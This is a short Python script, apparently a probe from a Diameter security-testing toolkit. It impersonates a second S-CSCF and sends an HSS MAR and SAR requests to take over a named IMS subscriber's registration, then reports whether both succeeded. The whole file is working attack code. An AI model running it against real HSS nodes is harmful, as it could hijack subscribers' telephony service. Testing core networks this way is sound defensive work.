#!/usr/bin/env python3
"""other_scscf.py - a second S-CSCF: takes a user over, as after a new choice of the I-CSCF

  other_scscf.py ADDRESS:PORT IDENTITY REALM SERVER_NAME IMPI IMPU

Sends the HSS MAR and SAR (REGISTRATION) for the user; prints the result of each. Exits 0 if both succeeded.
"""
import sys

from hostile_diameter import CX, M, MAR, SAR, SESSION_ID, TGPP, Target, avp, message, result_of

ADDRESS, IDENTITY, REALM, SERVER_NAME, IMPI, IMPU = sys.argv[1:7]


def request(target, code, more):
    return message(code, [
        avp(SESSION_ID, f"{IDENTITY};1;{code}"), avp(260, avp(266, TGPP) + avp(258, CX)), avp(277, 1), *target.origin(),
        avp(283, REALM), avp(1, IMPI), avp(601, IMPU, M, TGPP), avp(602, SERVER_NAME, M, TGPP), *more])


def main():
    host, port = ADDRESS.rsplit(":", 1)
    target = Target((host, int(port)), IDENTITY, REALM, None, 0)
    mar = request(target, MAR, [avp(612, avp(608, "Unknown", M, TGPP), M, TGPP), avp(607, 1, M, TGPP)])
    sar = request(target, SAR, [avp(614, 1, M, TGPP), avp(624, 0, M, TGPP)])
    with target.connect() as peer:
        answers = [peer.ask(m) for m in (mar, sar)]
    results = [result_of(a) if a else None for a in answers]
    print(*results)
    sys.exit(0 if results == [2001, 2001] else 1)


main()
